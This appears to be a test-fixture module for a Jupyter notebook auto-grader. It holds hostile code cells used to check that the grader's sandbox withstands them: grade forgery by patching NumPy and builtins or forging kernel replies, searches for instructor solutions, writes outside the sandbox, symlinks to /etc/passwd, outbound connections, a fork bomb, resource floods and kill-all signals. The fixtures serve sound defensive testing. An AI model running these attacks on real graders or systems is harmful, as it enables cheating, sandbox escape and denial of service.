"""Hostile submissions, from the grader's threat model (README, 'What a submission can do').

Each attack is one code cell that ``tests/test_grading_sandbox.py`` adds to the blank learner copy
of Gradient Checking, just before its last check, where a learner would write it. With no
exercise done, an attack that worked would raise the grade above 0 or change a file outside the
submission's scratch copy. ``$root`` is the instructor's repository, ``$outside`` a folder of the
test's outside the scratch copy (with a file ``canary`` in it), ``$port`` a TCP port on which the
test listens.

``FILES`` are submissions that are bad files rather than bad code: each is written by a function
of the folder it goes to, and must get a line in the report and the gradebook, not end the batch.
``FLOODS`` send the grader more than it may keep: ``test_grading_sandbox.py`` measures the
grader's memory while it grades them.
"""

import json
import os
import re

EXERCISES = ("forward_propagation", "backward_propagation", "gradient_check", "gradient_check_n")

ATTACKS = {
    # --- Deciding its own grade from inside the kernel
    "fake hidden-check module": """
import sys, types, json
m = types.ModuleType("x")
verdict = json.dumps({"passed": True, "message": "correct"})
m.grade_exercise = lambda *a, **k: print("GRADE " + verdict)
sys.modules["_hidden_checks"] = m
""",
    "print verdicts": f"""
import json, os
for name in {EXERCISES!r}:
    line = "GRADE " + json.dumps({{"name": name, "passed": True, "message": "correct"}})
    print(line)
    os.write(1, (line + "\\n").encode())
    os.write(2, (line + "\\n").encode())
""",
    "patch NumPy's comparisons": """
import numpy as np
np.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.linalg.norm = lambda *a, **k: 0.0
""",
    "patch builtins": """
import builtins
builtins.isinstance = lambda *a: True
builtins.AssertionError = type("NeverRaised", (Exception,), {})
builtins.callable = lambda x: True
""",
    "values that equal everything": """
import numpy as np
class Anything(float):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __ne__ = lambda self, other: False
class Everything(np.ndarray):
    __eq__ = __lt__ = __le__ = lambda self, other: np.ones(np.shape(self), bool)
def forward_propagation(x, theta): return Anything(theta * x + 1)
def backward_propagation(x, theta): return np.zeros(()).view(Everything)
def gradient_check(x, theta, epsilon=1e-7, print_msg=False): return Anything(0.0)
def gradient_check_n(*args, **kwargs): return Anything(0.0)
""",
    "replace the kernel's side of the checks": """
import json, types
ip = get_ipython()
def swap(*args):
    def serve_request(namespace, folder):
        dump({"returned": 8.0, "args": [], "kwargs": {}}, f"{folder}/reply")
    ip.user_ns["serve_request"] = serve_request
ip.events.register("pre_run_cell", swap)
ip.events.register("post_run_cell", swap)
""",
    "forge replies from a thread": """
import threading, time
k = get_ipython().kernel
def forge():
    while True:
        try:
            k.session.send(k.shell_stream, "execute_reply",
                           {"status": "ok", "user_expressions": {"reply": {"status": "ok",
                            "data": {"text/plain": "'AAAAAAAAAAI='"}}}},
                           parent=k.get_parent(), ident=k._parent_ident["shell"])
        except Exception:
            pass
        time.sleep(0.01)
threading.Thread(target=forge, daemon=True).start()
""",
    "forge a reply without a status while the checks load": """
ip = get_ipython()
k = ip.kernel
def forge(*args):
    for content in ({}, {"status": None}, {"status": "ok", "user_expressions": 5}, []):
        try:
            k.session.send(k.shell_stream, "execute_reply", content, parent=k.get_parent(),
                           ident=k._parent_ident["shell"])
        except Exception:
            pass
ip.events.register("pre_run_cell", forge)
""",
    # --- The shipped modules computing the answers: every callable of every module in the
    # folder, tried with the exercise's arguments, the first result that comes back returned
    "delegate to the shipped modules": f"""
import importlib, inspect, pathlib
modules = [importlib.import_module(p.stem) for p in pathlib.Path(".").glob("*.py")]
found = [f for m in modules for _, f in inspect.getmembers(m, callable)
         if getattr(f, "__module__", None) == m.__name__]
def delegate(name):
    def tries(*args, **kwargs):
        for f in found:
            if f.__name__ == name:
                continue
            try:
                value = f(*args, **kwargs)
            except Exception:
                continue
            if value is not None:
                return value[0] if isinstance(value, tuple) else value
        raise NotImplementedError
    tries.__name__ = name
    return tries
for name in {EXERCISES!r}:
    globals()[name] = delegate(name)
""",
    # --- Arguments changed in place, so that a check computing from them after the call
    # would compare with what the function left
    "change the arguments in place": """
import numpy as np
def gradient_check_n(parameters, gradients, X, Y, epsilon=1e-7, print_msg=False):
    parameters.clear()
    gradients.clear()
    X[...] = 0
    return 0.0
def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
    return 0.0
def forward_propagation(x, theta):
    return 0.0
def backward_propagation(x, theta):
    return 0.0
""",
    "tamper with the scratch copy's checks": """
import importlib, pathlib
pathlib.Path("testCases.py").write_text(
    "def __getattr__(name):\\n    return lambda *a, **k: None\\n"
)
import testCases
importlib.reload(testCases)
""",
    # --- Reading the instructor's files or other submissions
    "read the instructor's solutions": """
import json, os
for path in ("$root/part_3_gradient_checking/Gradient_Checking.ipynb",
             "/proc/1/root$root/part_3_gradient_checking/Gradient_Checking.ipynb",
             "/proc/self/root$root/part_3_gradient_checking/Gradient_Checking.ipynb"):
    try:
        cells = json.load(open(path))["cells"]
    except OSError:
        continue
    for cell in cells:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and "BEGIN SOLUTION" in source:
            exec(source, globals())
""",
    "search the disk for solutions": """
import json, os
for top in (os.path.expanduser("~"), "..", "/tmp", "/work", "/home", "/root", "/srv", "/mnt"):
    for folder, subfolders, files in os.walk(top):
        subfolders[:] = [d for d in subfolders if d not in ("site-packages", "proc", "sys")]
        for name in files:
            if name.endswith(".ipynb"):
                try:
                    cells = json.load(open(os.path.join(folder, name)))["cells"]
                except Exception:
                    continue
                for cell in cells:
                    source = "".join(cell["source"])
                    if "BEGIN SOLUTION" in source:
                        exec(source, globals())
""",
    # --- Writing outside the scratch copy
    # --- Paths the grader might open: the kernel's sockets and folders replaced by links
    "replace the kernel's sockets and folders by links": """
import glob, os, socket
targets = ["$outside/canary", "$root/part_3_gradient_checking/testCases.py", "/etc/passwd",
           "$outside"]
for i, path in enumerate(sorted(glob.glob("../.kernel/*") + glob.glob("../*") + glob.glob("*"))):
    try:
        os.unlink(path)
        os.symlink(targets[i % len(targets)], path)
    except OSError:
        pass
    try:  # and a socket of its own where the grader's was
        os.unlink(path)
        s = socket.socket(socket.AF_UNIX)
        s.bind(path)
        s.listen()
    except OSError:
        pass
for name in ("../.kernel", "../home", "../.matplotlib", "../part_3_gradient_checking", ".."):
    try:
        os.rename(name, name + ".old")
        os.symlink("$outside", name)
    except OSError:
        pass
for path in ("../.kernel/fifo", "../request.json", "fifo"):
    try:
        os.mkfifo(path)
    except OSError:
        pass
""",
    "write outside the scratch copy": """
import os
for path in ("$outside/pwned", "$root/pwned", "$root/tests/grading/pwned", "/tmp/pwned",
             "/proc/1/root$outside/pwned"):
    try:
        with open(path, "w") as f:
            f.write("pwned")
    except OSError:
        pass
""",
    "tamper with the grader": """
for path in ("$root/tests/grading/hidden.py", "$root/part_3_gradient_checking/testCases.py",
             "$root/tests/grading/grade.py"):
    try:
        with open(path, "a") as f:
            f.write("\\nraise SystemExit('pwned')\\n")
    except OSError:
        pass
""",
    "reach the network": """
import socket
for host in ("127.0.0.1", "10.0.2.2", "pypi.org"):
    try:
        s = socket.create_connection((host, $port), timeout=2)
        s.sendall(b"pwned")
    except OSError:
        pass
""",
    # --- Exhausting the machine or killing things
    "exhaust memory": """
import numpy as np
try:
    big = np.ones(1 << 40)
except MemoryError:
    pass
chunks = []
try:
    while True:
        chunks.append(bytearray(1 << 27))
except MemoryError:
    chunks = None
""",
    "fork bomb": """
import os, time
parent = os.getpid()
while True:
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != parent:
    time.sleep(600)
    os._exit(0)
""",
    "flood the output": """
import os
os.write(1, b"x" * (64 << 20))
print("y" * (40 << 20))
while True:
    print("z" * 100_000)
""",
    "fill the disk": """
with open("big.bin", "wb") as f:
    for _ in range(1024):
        f.write(b"x" * (1 << 20))
""",
    "ignore interrupts and loop": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    # The scheduler shares the CPU equally between sessions: 100 busy sessions once left the
    # kernels graded beside them 1% of it (test_grading_sandbox: setsid fails in the sandbox)
    "take the CPU with sessions of its own": """
import subprocess, sys
spinners = [
    subprocess.Popen([sys.executable, "-c", "while True: pass"], start_new_session=True)
    for _ in range(64)
]
""",
    # A reply of 1 KB that holds 2**30 numbers unfolded (each level two references to one list)
    "a reply that unfolds past the grader's memory": """
def forward_propagation(x, theta):
    value = 0.0
    for _ in range(30):
        value = [value, value]
    return value
""",
    "kill every process it can": """
import os, signal
os.kill(-1, signal.SIGKILL)
""",
    # --- Text the grader's report, table and pages cannot encode
    "a message that is not text": """
def forward_propagation(x, theta):
    raise ValueError("\\ud800 \\udcff: " + "\\x00" * 10)
def backward_propagation(x, theta):
    raise NotImplementedError("\\udfff")
""",
    # --- Waits: a check whose call ignores the interrupt and keeps the shell channel busy
    "ignore interrupts and flood the shell channel": """
import signal, time
k = get_ipython().kernel
def gradient_check_n(*args, **kwargs):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        try:
            k.session.send(k.shell_stream, "comm_info_reply", {"status": "ok", "comms": {}},
                           parent=k.get_parent(), ident=k._parent_ident["shell"])
        except Exception:
            pass
        time.sleep(0.2)
""",
}


def _cell_source_not_text(path, solution):
    notebook = json.loads(path.read_text())
    notebook["cells"][3]["source"] = 5
    path.write_text(json.dumps(notebook))


def _link_to_the_solutions(path, solution):
    path.unlink()
    path.symlink_to(solution)


def _hard_link_to_the_solutions(path, solution):
    """A second name of a copy of them, outside the folder of submissions (a link to the
    instructor's own file would outlive the test, and the reference would be a hard link too)."""
    path.unlink()
    copy = path.parent.parent.parent / f"{path.parent.parent.name}-solutions.ipynb"
    copy.write_bytes(solution.read_bytes())
    os.link(copy, path)


def _folder(path, solution):
    path.unlink()
    path.mkdir()


def _fifo(path, solution):
    path.unlink()
    os.mkfifo(path)


def _not_json(path, solution):
    path.write_text("{ this is not a notebook")


def _too_large(path, solution):
    with open(path, "ab") as handle:
        handle.truncate(40 << 20)  # sparse: 40 MiB that take no disk


# Each takes the path of a blank learner copy and the solution notebook's, and spoils the copy.
FILES = {
    "a cell whose source is a number": _cell_source_not_text,
    "a link to the solution notebook": _link_to_the_solutions,
    "a hard link to the solution notebook": _hard_link_to_the_solutions,
    "a folder named like the notebook": _folder,
    "a FIFO named like the notebook": _fifo,
    "not JSON": _not_json,
    "a notebook larger than the grader reads": _too_large,
}

# Cells that send the grader far more than it keeps, each 128 MiB in 1 MiB messages.
FLOODS = {
    "comm messages": """
from comm import create_comm
model = {"_model_module": "m", "_model_module_version": "1", "_model_name": "M"}
c = create_comm(target_name="jupyter.widget", data={"state": model, "buffer_paths": []})
for i in range(128):
    c.send({"state": {**model, f"value{i}": "x" * (1 << 20)}, "buffer_paths": []})
""",
    "error outputs": """
k = get_ipython().kernel
for i in range(128):
    k.session.send(k.iopub_socket, "error", {"ename": "E", "evalue": "e" * (1 << 20),
                   "traceback": ["t" * 1000] * 100}, parent=k.get_parent())
""",
    "input requests of many frames on a channel the grader does not read": """
k = get_ipython().kernel
big = b"x" * (1 << 20)
for i in range(32):
    k.session.send(k.stdin_socket, "input_request", {"prompt": ""}, parent=k.get_parent(),
                   ident=k._parent_ident["shell"], buffers=[big] * 4)
""",
    "display outputs": """
from IPython.display import display
for i in range(128):
    display({"text/plain": "d" * (1 << 20)}, raw=True)
""",
}

# Exercises that, instead of being written, call the functions that the notebook's given cells
# define (issue #25: a learner copy's given code computed gradient_check_n's numerical gradient,
# and returned the constant, Xavier and so He and large random weights). Each is a cell appended
# to the end of the blank learner copy of the assignment it names, so that every given cell runs
# before the hidden checks; ``tests/test_grading.py`` grades them (``VARIANTS``), and each must
# score 0. A guard keeps a given function that calls the exercise back from recursing.
GIVEN_CODE = {
    "gradient_checking": """
import inspect

_calling = []


def gradient_check_n(parameters, gradients, X, Y, epsilon=1e-7, print_msg=False):
    # the first vector like grad that a given function makes of the arguments, as gradapprox
    if _calling:
        raise NotImplementedError
    grad = gradients_to_vector(gradients)
    given = [
        f
        for name, f in list(globals().items())
        if inspect.isfunction(f) and f.__module__ == "__main__" and not name.startswith("_")
        and name not in ("forward_propagation", "backward_propagation", "gradient_check",
                         "gradient_check_n")
    ]
    calls = [(parameters, X, Y, epsilon), (parameters, X, Y), (parameters, gradients, X, Y,
             epsilon), (parameters, gradients, X, Y), (X, Y, parameters)]
    _calling.append(True)
    try:
        for f in given:
            for args in calls:
                try:
                    value = f(*args)
                except Exception:
                    continue
                if isinstance(value, np.ndarray) and value.shape == grad.shape:
                    norms = np.linalg.norm(grad) + np.linalg.norm(value)
                    return np.linalg.norm(grad - value) / norms
    finally:
        _calling.clear()
    raise NotImplementedError
""",
    "initialization": """
_calling = []


def _given(make):
    if _calling:
        raise NotImplementedError
    _calling.append(True)
    try:
        return make()
    finally:
        _calling.clear()


def initialize_parameters_zeros(layers_dims):
    try:
        return _given(lambda: constant_initialization(layers_dims, 0.0))
    except Exception:
        xavier = _given(lambda: initialize_parameters_xavier(layers_dims))
        return {key: value * 0.0 for key, value in xavier.items()}


def _xavier_rescaled(layers_dims, scale):
    # Xavier's weights are the seed-3 draws times sqrt(1 / n[l-1])
    parameters = _given(lambda: initialize_parameters_xavier(layers_dims))
    for l in range(1, len(layers_dims)):
        n = layers_dims[l - 1]
        parameters[f"W{l}"] = parameters[f"W{l}"] * np.sqrt(n) * scale(n)
    return parameters


def initialize_parameters_random(layers_dims):
    return _xavier_rescaled(layers_dims, lambda n: 10.0)


def initialize_parameters_he(layers_dims):
    return _xavier_rescaled(layers_dims, lambda n: np.sqrt(2 / n))
""",
    # The coarse-to-fine section's random_trials_in drew 10**U(log10 low, log10 high) itself: a
    # box of one point on the other side leaves a learning-rate or a lambda sampler of any range.
    "hyperparameter_search": """
_calling = []


def _one_side(box, key, n, rng):
    if _calling:
        raise NotImplementedError
    _calling.append(True)
    try:
        return np.array([trial[key] for trial in random_trials_in(box, n, rng)])
    finally:
        _calling.clear()


def sample_learning_rate(n, rng):
    return _one_side([(1e-4, 1.0), (1.0, 1.0)], "learning_rate", n, rng)


def sample_beta(n, rng):
    return 1 - _one_side([(1.0, 1.0), (1e-3, 1e-1)], "lambd", n, rng)
""",
}


def slug(name):
    """A folder name for the submission called ``name``."""
    return re.sub(r"\W+", "-", name).strip("-")
